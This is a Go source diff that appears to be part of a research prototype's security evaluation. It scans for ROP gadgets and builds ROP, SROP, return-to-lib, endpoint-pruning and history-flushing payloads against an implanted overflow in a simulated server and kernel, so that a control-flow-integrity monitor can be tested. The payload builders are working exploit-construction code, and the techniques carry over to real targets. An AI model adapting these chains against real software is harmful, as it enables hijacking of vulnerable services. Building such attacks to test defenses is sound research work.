@@ -1,0 +1,334 @@
+// Package attack constructs the control-flow hijacking payloads of the
+// paper's security evaluation (§7.1.2): a traditional ROP chain and an
+// SROP attack against the implanted nginx vulnerability, plus a
+// return-to-lib chain and a history-flushing attempt, all ending in the
+// attacker goal of writing arbitrary data to a chosen file or spawning a
+// process.
+//
+// The attacker model matches §3.3: full knowledge of the binaries and
+// the (non-ASLR) layout, a remote input vector, DEP/NX in force — so
+// code injection is impossible and the payload must reuse existing code.
+// Gadgets are aligned instruction sequences ending in RET (the
+// fixed-width ISA has no unintended instructions); the register-loading
+// gadget is libc's ctx_restore (the setcontext analogue) and the kernel
+// entry is the syscall;ret tail of libc's raw_syscall.
+package attack
+
+import (
+	"encoding/binary"
+	"fmt"
+
+	"flowguard/internal/isa"
+	"flowguard/internal/kernelsim"
+	"flowguard/internal/module"
+)
+
+// Gadget is an aligned code sequence ending in RET.
+type Gadget struct {
+	Addr   uint64
+	Instrs []isa.Instr
+}
+
+func (g Gadget) String() string {
+	s := fmt.Sprintf("%#x:", g.Addr)
+	for _, in := range g.Instrs {
+		s += " " + in.String() + ";"
+	}
+	return s
+}
+
+// FindGadgets scans every module's code for RET-terminated sequences of
+// at most maxLen instructions. Sequences may contain SYSCALL (the
+// syscall;ret gadget) but no other control flow.
+func FindGadgets(as *module.AddressSpace, maxLen int) []Gadget {
+	var out []Gadget
+	for _, l := range as.Mods {
+		code := l.Mod.Code
+		for off := 0; off+isa.InstrSize <= len(code); off += isa.InstrSize {
+			in, err := isa.Decode(code[off:])
+			if err != nil || in.Op != isa.RET {
+				continue
+			}
+			// Extend backwards while instructions stay straight-line.
+			for n := 1; n <= maxLen; n++ {
+				start := off - (n-1)*isa.InstrSize
+				if start < 0 {
+					break
+				}
+				ok := true
+				var instrs []isa.Instr
+				for i := 0; i < n; i++ {
+					gi, err := isa.Decode(code[start+i*isa.InstrSize:])
+					if err != nil {
+						ok = false
+						break
+					}
+					if i < n-1 && gi.Op.IsCoFI() && gi.Op != isa.SYSCALL {
+						ok = false
+						break
+					}
+					instrs = append(instrs, gi)
+				}
+				if !ok {
+					break
+				}
+				out = append(out, Gadget{Addr: l.CodeBase + uint64(start), Instrs: instrs})
+			}
+		}
+	}
+	return out
+}
+
+// FindPopChain locates a gadget that is exactly POP reg_0; ...;
+// POP reg_{n-1}; RET.
+func FindPopChain(gs []Gadget, regs ...isa.Reg) (Gadget, bool) {
+	for _, g := range gs {
+		if len(g.Instrs) != len(regs)+1 {
+			continue
+		}
+		match := true
+		for i, r := range regs {
+			if g.Instrs[i].Op != isa.POP || g.Instrs[i].Rd != r {
+				match = false
+				break
+			}
+		}
+		if match && g.Instrs[len(regs)].Op == isa.RET {
+			return g, true
+		}
+	}
+	return Gadget{}, false
+}
+
+// FindSyscallRet locates the SYSCALL; RET gadget.
+func FindSyscallRet(gs []Gadget) (Gadget, bool) {
+	for _, g := range gs {
+		if len(g.Instrs) == 2 && g.Instrs[0].Op == isa.SYSCALL && g.Instrs[1].Op == isa.RET {
+			return g, true
+		}
+	}
+	return Gadget{}, false
+}
+
+// Chain assembles the stack words of a ROP payload.
+type Chain struct {
+	words []uint64
+}
+
+// Word appends a literal stack word.
+func (c *Chain) Word(v uint64) *Chain {
+	c.words = append(c.words, v)
+	return c
+}
+
+// Gadget appends a gadget address.
+func (c *Chain) Gadget(g Gadget) *Chain { return c.Word(g.Addr) }
+
+// Len returns the chain size in bytes.
+func (c *Chain) Len() int { return 8 * len(c.words) }
+
+// Bytes serializes the chain little-endian.
+func (c *Chain) Bytes() []byte {
+	out := make([]byte, 0, c.Len())
+	for _, w := range c.words {
+		var b [8]byte
+		binary.LittleEndian.PutUint64(b[:], w)
+		out = append(out, b[:]...)
+	}
+	return out
+}
+
+// Vulnd overflow geometry: h_post reads the payload into a 64-byte
+// buffer at fp-96; the saved frame pointer sits at [fp] and the return
+// address at [fp+8], so 96+8 filler bytes precede the chain.
+const vulndFill = 96 + 8
+
+// vulndRequest wraps a raw overflow payload in the vulnerable server's
+// "P <n>" upload request.
+func vulndRequest(payload []byte) []byte {
+	req := []byte(fmt.Sprintf("P %d\n", len(payload)))
+	return append(req, payload...)
+}
+
+// prelude is benign traffic sent before the exploit so the trace buffer
+// holds realistic history (the attacks in the paper hijack a running
+// server, not a fresh process).
+func prelude() []byte {
+	return []byte("G /index\nG /static/logo\nH /health\n")
+}
+
+// targets gathers the shared building blocks of the concrete attacks.
+type targets struct {
+	popAll  Gadget // pop r7; pop r2; pop r1; pop r0; ret (ctx_restore)
+	syscall Gadget // syscall; ret (raw_syscall tail)
+	spawn   uint64 // libc spawn() entry (execve wrapper)
+	pathStr uint64 // address of a NUL-terminated string usable as a path
+	dataStr uint64 // address of known bytes to exfiltrate
+}
+
+func resolveTargets(as *module.AddressSpace) (targets, error) {
+	gs := FindGadgets(as, 6)
+	var t targets
+	var ok bool
+	t.popAll, ok = FindPopChain(gs, isa.R7, isa.R2, isa.R1, isa.R0)
+	if !ok {
+		return t, fmt.Errorf("attack: no register-load gadget (ctx_restore) found")
+	}
+	t.syscall, ok = FindSyscallRet(gs)
+	if !ok {
+		return t, fmt.Errorf("attack: no syscall;ret gadget found")
+	}
+	t.spawn, ok = as.ResolveSymbol("spawn")
+	if !ok {
+		return t, fmt.Errorf("attack: libc spawn not found")
+	}
+	// "len\x00" from the executable's data doubles as the target file
+	// name; "bad request\n" as the exfiltrated contents.
+	if t.pathStr, ok = as.Exec.SymbolAddr("k_len"); !ok {
+		return t, fmt.Errorf("attack: k_len string not found")
+	}
+	if t.dataStr, ok = as.Exec.SymbolAddr("s_bad"); !ok {
+		return t, fmt.Errorf("attack: s_bad string not found")
+	}
+	return t, nil
+}
+
+// ROPFileName is the file the traditional ROP chain writes into.
+const ROPFileName = "len"
+
+// ROPMarker is the data the chain writes (the first 12 bytes of s_bad).
+const ROPMarker = "bad request\n"
+
+// BuildROPWrite constructs the traditional ROP attack of §7.1.2: open a
+// file, write attacker-chosen bytes into it, exit. Under FlowGuard the
+// violation is detected at the write syscall endpoint.
+func BuildROPWrite(as *module.AddressSpace) ([]byte, error) {
+	t, err := resolveTargets(as)
+	if err != nil {
+		return nil, err
+	}
+	var c Chain
+	// open(path): fd will be 3 (first descriptor of the process).
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysOpen).Word(0).Word(0).Word(t.pathStr).
+		Gadget(t.syscall)
+	// write(3, dataStr, len(ROPMarker))
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysWrite).Word(uint64(len(ROPMarker))).Word(t.dataStr).Word(3).
+		Gadget(t.syscall)
+	// exit(0)
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysExit).Word(0).Word(0).Word(0).
+		Gadget(t.syscall)
+	payload := append(make([]byte, vulndFill), c.Bytes()...)
+	return append(prelude(), vulndRequest(payload)...), nil
+}
+
+// BuildSROP constructs the SROP attack of §7.1.2: invoke sigreturn with
+// a forged signal frame that resumes execution inside libc's spawn with
+// the attacker's path in R0. Under FlowGuard the violation is detected
+// at the sigreturn syscall endpoint.
+func BuildSROP(as *module.AddressSpace) ([]byte, error) {
+	t, err := resolveTargets(as)
+	if err != nil {
+		return nil, err
+	}
+	var c Chain
+	// sigreturn()
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysSigreturn).Word(0).Word(0).Word(0).
+		Gadget(t.syscall)
+	// Forged frame read from SP by sigreturn: 16 GPRs, PC, flags.
+	var frame [kernelsim.SigFrameWords]uint64
+	frame[0] = t.pathStr                   // R0 = path for execve
+	frame[isa.SP] = module.StackTop - 4096 // a sane stack
+	frame[16] = t.spawn                    // PC = spawn()
+	frame[17] = 0                          // flags
+	for _, w := range frame {
+		c.Word(w)
+	}
+	payload := append(make([]byte, vulndFill), c.Bytes()...)
+	return append(prelude(), vulndRequest(payload)...), nil
+}
+
+// BuildRet2Lib constructs the return-to-lib attack: return straight into
+// libc's spawn (a legitimate function entry) with the path popped into
+// R0 — no syscall gadget needed. Under FlowGuard the violation is
+// detected at the execve endpoint; the multi-module stride rule (§7.1.1)
+// guarantees the pre-hijack executable history is part of the checked
+// window.
+func BuildRet2Lib(as *module.AddressSpace) ([]byte, error) {
+	t, err := resolveTargets(as)
+	if err != nil {
+		return nil, err
+	}
+	var c Chain
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysGetpid). // benign r7 filler
+		Word(0).Word(0).Word(t.pathStr).
+		Word(t.spawn) // ret -> spawn(path)
+	payload := append(make([]byte, vulndFill), c.Bytes()...)
+	return append(prelude(), vulndRequest(payload)...), nil
+}
+
+// BuildEndpointPruning constructs the endpoint-pruning attack §7.1.2
+// warns about: the hijacked flow performs its (covert) computation —
+// here a long hash over the stack region — and exits without ever
+// touching a guarded syscall, so endpoint-based interception never
+// fires. Only the PMI fallback (Policy.CheckOnPMI) catches it: the hash
+// loop floods the ToPA buffer with TNT packets, and the buffer-full
+// interrupt's window still holds the hijacking TIP edges.
+func BuildEndpointPruning(as *module.AddressSpace) ([]byte, error) {
+	t, err := resolveTargets(as)
+	if err != nil {
+		return nil, err
+	}
+	hashFnv, ok := as.ResolveSymbol("hash_fnv")
+	if !ok {
+		return nil, fmt.Errorf("attack: libc hash_fnv not found")
+	}
+	var c Chain
+	// hash_fnv(stackBase, 150000): ~150k conditional branches, enough to
+	// fill a 16 KiB ToPA once. The stack region is readable and large.
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysGetpid). // benign r7 filler
+		Word(0).
+		Word(150_000).                            // r1 = n
+		Word(module.StackTop - module.StackSize). // r0 = buf
+		Word(hashFnv)                             // ret -> hash_fnv
+	// hash_fnv returns into the exit stage: no guarded endpoint touched.
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysExit).Word(0).Word(0).Word(0).
+		Gadget(t.syscall)
+	payload := append(make([]byte, vulndFill), c.Bytes()...)
+	return append(prelude(), vulndRequest(payload)...), nil
+}
+
+// BuildHistoryFlush constructs the history-flushing attempt of §7.1.1: a
+// long run of "NOP-like" ret-to-ret hops intended to push the hijack out
+// of a short inspection window (the attack class that defeats
+// 16-entry-LBR monitors), followed by the ROP write. With pkt_count >=
+// 30 and graph-checked hops it must still be detected: the hops
+// themselves are not ITC-CFG edges.
+func BuildHistoryFlush(as *module.AddressSpace, hops int) ([]byte, error) {
+	t, err := resolveTargets(as)
+	if err != nil {
+		return nil, err
+	}
+	retOnly, ok := FindPopChain(FindGadgets(as, 1))
+	if !ok {
+		return nil, fmt.Errorf("attack: no bare ret gadget")
+	}
+	var c Chain
+	for i := 0; i < hops; i++ {
+		c.Gadget(retOnly)
+	}
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysWrite).Word(uint64(len(ROPMarker))).Word(t.dataStr).Word(1).
+		Gadget(t.syscall)
+	c.Gadget(t.popAll).
+		Word(kernelsim.SysExit).Word(0).Word(0).Word(0).
+		Gadget(t.syscall)
+	payload := append(make([]byte, vulndFill), c.Bytes()...)
+	return append(prelude(), vulndRequest(payload)...), nil
+}
